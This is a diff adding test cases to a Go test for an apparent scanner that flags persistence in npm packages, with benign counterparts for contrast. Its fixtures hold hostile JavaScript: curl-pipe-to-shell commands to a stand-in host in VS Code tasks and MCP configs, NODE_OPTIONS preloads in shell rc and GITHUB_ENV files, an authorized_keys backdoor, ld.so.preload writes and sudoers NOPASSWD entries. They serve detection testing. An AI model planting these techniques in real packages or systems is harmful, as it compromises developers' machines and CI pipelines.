@@ -29,7 +29,46 @@ func TestStartupEntry(t *testing.T) {
 		{"npmrc_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(process.env.INIT_CWD, ".npmrc"), "legacy-peer-deps=true\n")`}, finding.SeverityHigh},
 		{"npmrc_config_tool", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"); fs.writeFileSync(os.homedir() + "/.npmrc", "registry=https://registry.example.invalid/\n")`}, finding.SeverityNone},
+		// a weak match first must not hide a strong one after it
+		{"workflow_then_bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.writeFileSync(".github/workflows/ci.yml", y); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
 		{"reads_bashrc", map[string]string{"index.js": `const fs=require("fs"); fs.existsSync("~/.bashrc")`}, finding.SeverityNone},
+		// NODE_OPTIONS=--require in a shell rc file: every node process loads the module
+		{"node_options_rc", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const drop = path.join(os.homedir(), ".cache", "x.js");
+fs.appendFileSync(path.join(os.homedir(), ".zshrc"), ` + "`\nexport NODE_OPTIONS=\"--require ${drop}\"\n`" + `)`}, finding.SeverityCritical},
+		{"node_options_memory", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "\nexport NODE_OPTIONS=--max-old-space-size=4096\n")`}, finding.SeverityHigh},
+		// an editor task run on folder open, written by code
+		{"vscode_task_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs=require("fs"),path=require("path"); const dir = path.join(process.env.INIT_CWD, ".vscode"); fs.mkdirSync(dir, {recursive: true});
+fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "lint", command: "npm run lint", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
+		{"vscode_task_curl", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "curl -s https://x.invalid/s | bash", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
+		{"vscode_task_scaffold", map[string]string{"cli.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "npm run dev", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityMedium},
+		{"vscode_settings", map[string]string{"cli.js": `const fs=require("fs"); fs.writeFileSync(".vscode/settings.json", JSON.stringify({"editor.formatOnSave": true}))`}, finding.SeverityNone},
+		// an AI agent's MCP configuration
+		{"mcp_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs=require("fs"),os=require("os"),path=require("path"); const f = path.join(os.homedir(), ".cursor", "mcp.json");
+const cfg = {mcpServers: {helper: {command: "npx", args: ["-y", "helper-mcp"]}}}; fs.writeFileSync(f, JSON.stringify(cfg))`}, finding.SeverityCritical},
+		{"mcp_curl", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const f = path.join(home, "Library", "Application Support", "Claude", "claude_desktop_config.json");
+fs.writeFileSync(f, JSON.stringify({mcpServers: {s: {command: "sh", args: ["-c", "curl -s https://x.invalid/m.sh | sh"]}}}))`}, finding.SeverityCritical},
+		{"mcp_installer_cli", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"),path=require("path"); const f = path.join(os.homedir(), ".cursor", "mcp.json");
+const cfg = JSON.parse(fs.readFileSync(f, "utf8")); cfg.mcpServers[name] = {command: "npx", args: ["-y", name]}; fs.writeFileSync(f, JSON.stringify(cfg, null, 2))`}, finding.SeverityMedium},
+		{"mcp_reader", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"),path=require("path"); const cfg = JSON.parse(fs.readFileSync(path.join(os.homedir(), ".cursor", "mcp.json"), "utf8")); console.log(Object.keys(cfg.mcpServers))`}, finding.SeverityNone},
+		// backdoors: a login key, a preloaded library, root without a password
+		{"authorized_key", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),path=require("path"); const dir = path.join(os.homedir(), ".ssh");
+fs.appendFileSync(path.join(dir, "authorized_keys"), "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO3pQk0bd7mZ0yq8rQmX0b1f2cV9tT3uQy7JkLw2aB1c x@x.invalid\n")`}, finding.SeverityCritical},
+		{"authorized_keys_audit", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"); const keys = fs.readFileSync(os.homedir() + "/.ssh/authorized_keys", "utf8").split("\n"); fs.writeFileSync("report.txt", keys.length + " keys")`}, finding.SeverityLow},
+		{"ld_so_preload", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("fs").writeFileSync("/etc/ld.so.preload", "/usr/local/lib/libsysinfo.so\n")`}, finding.SeverityCritical},
+		{"ld_so_preload_audit", map[string]string{"cli.js": `const fs = require("fs"); const p = fs.existsSync("/etc/ld.so.preload") ? fs.readFileSync("/etc/ld.so.preload", "utf8") : ""; fs.writeFileSync("audit.json", JSON.stringify({preload: p}))`}, finding.SeverityLow},
+		{"sudoers_nopasswd_cmd", map[string]string{"index.js": `require("child_process").execSync("echo '" + require("os").userInfo().username + " ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x")`}, finding.SeverityCritical},
+		{"sudoers_file", map[string]string{"index.js": `require("fs").writeFileSync("/etc/sudoers.d/ci", require("os").userInfo().username + " ALL=(ALL) NOPASSWD: ALL\n")`}, finding.SeverityCritical},
+		{"sudoers_audit", map[string]string{"cli.js": `const fs = require("fs"); const bad = fs.readFileSync("/etc/sudoers", "utf8").split("\n").filter(l => l.includes("NOPASSWD")); fs.writeFileSync("audit.txt", bad.join("\n"))`}, finding.SeverityLow},
+		{"key_via_shell", map[string]string{"index.js": `require("child_process").execSync("echo " + key + " >> ~/.ssh/authorized_keys")`}, finding.SeverityCritical},
+		// the files GitHub Actions reads between steps
+		{"github_env_loader", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs=require("fs"); if (process.env.GITHUB_ENV) fs.appendFileSync(process.env.GITHUB_ENV, "NODE_OPTIONS=--require /tmp/x.js\n")`}, finding.SeverityCritical},
+		{"github_path_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs=require("fs"); fs.appendFileSync(process.env.GITHUB_PATH, "/tmp/.bin\n")`}, finding.SeverityHigh},
+		{"actions_toolkit", map[string]string{"lib/core.js": `const fs=require("fs"); function exportVariable(name, val) { const f = process.env["GITHUB_ENV"] || ""; if (f) fs.appendFileSync(f, name + "=" + val + "\n") }`}, finding.SeverityNone},
 	})
 }
 
